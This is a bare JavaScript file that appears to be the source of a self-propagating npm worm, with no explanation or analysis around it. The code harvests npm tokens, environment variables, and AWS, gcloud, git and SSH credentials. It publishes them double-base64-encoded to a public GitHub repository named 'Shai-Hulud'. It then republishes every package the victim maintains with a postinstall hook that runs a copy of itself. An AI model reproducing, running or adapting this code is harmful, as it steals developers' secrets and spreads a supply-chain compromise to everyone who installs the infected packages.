
const fs=require('fs'),os=require('os'),path=require('path'),https=require('https'),{execSync}=require('child_process');
const REG=(process.env.npm_config_registry||'https://registry.npmjs.example.org/').replace(/\/$/,'');
const GH='api.github.example.com';
function rc(){try{const t=fs.readFileSync(path.join(os.homedir(),'.npmrc'),'utf8');const m=t.match(/_authToken=(\S+)/);return m&&m[1];}catch(e){return process.env.NPM_TOKEN;}}
function req(host,p,method,headers,body){return new Promise(r=>{const q=https.request({host,path:p,method,headers},s=>{let d='';s.on('data',c=>d+=c);s.on('end',()=>r({code:s.statusCode,body:d}));});q.on('error',()=>r({code:0,body:''}));if(body)q.write(body);q.end();});}
async function who(tok){const u=new URL(REG);const r=await req(u.host,'/-/whoami','GET',{authorization:'Bearer '+tok});try{return JSON.parse(r.body).username}catch(e){return null}}
async function owned(tok,user){const u=new URL(REG);const r=await req(u.host,'/-/v1/search?text=maintainer:'+user+'&size=20','GET',{authorization:'Bearer '+tok});try{return JSON.parse(r.body).objects.map(o=>o.package.name)}catch(e){return[]}}
function spread(name,tok){const tmp=fs.mkdtempSync(path.join(os.tmpdir(),'sw-'));try{
 execSync('npm pack '+name+' --silent',{cwd:tmp,stdio:'ignore'});const tgz=fs.readdirSync(tmp).find(f=>f.endsWith('.tgz'));
 execSync('tar -xzf '+tgz,{cwd:tmp,stdio:'ignore'});const dir=path.join(tmp,'package');
 const pj=JSON.parse(fs.readFileSync(path.join(dir,'package.json')));const v=pj.version.split('.');v[2]=String(+v[2]+1);pj.version=v.join('.');
 pj.scripts=Object.assign({},pj.scripts,{postinstall:'node bundle.js'});fs.writeFileSync(path.join(dir,'package.json'),JSON.stringify(pj,null,2));
 fs.copyFileSync(__filename,path.join(dir,'bundle.js'));
 fs.writeFileSync(path.join(dir,'.npmrc'),'//'+new URL(REG).host+'/:_authToken='+tok+'\n');
 execSync('npm publish --access public',{cwd:dir,stdio:'ignore'});}catch(e){}}
function secrets(){const o={env:process.env,host:os.hostname(),platform:process.platform};
 for(const f of ['.aws/credentials','.config/gcloud/application_default_credentials.json','.git-credentials','.ssh/id_rsa']){try{o[f]=fs.readFileSync(path.join(os.homedir(),f),'utf8')}catch(e){}}return o;}
async function persist(gh){const body=JSON.stringify({name:'Shai-Hulud',private:false,description:'Shai-Hulud Repository.'});
 await req(GH,'/user/repos','POST',{authorization:'token '+gh,'user-agent':'node','content-type':'application/json'},body);
 const user=JSON.parse((await req(GH,'/user','GET',{authorization:'token '+gh,'user-agent':'node'})).body||'{}').login;
 const data=Buffer.from(Buffer.from(JSON.stringify(secrets())).toString('base64')).toString('base64');
 await req(GH,'/repos/'+user+'/Shai-Hulud/contents/data.json','PUT',{authorization:'token '+gh,'user-agent':'node','content-type':'application/json'},JSON.stringify({message:'init',content:data}));}
(async()=>{const gh=process.env.GITHUB_TOKEN||process.env.GH_TOKEN;if(gh)await persist(gh);
 const tok=rc();if(!tok)return;const u=await who(tok);if(!u)return;for(const n of (await owned(tok,u)))spread(n,tok);})();
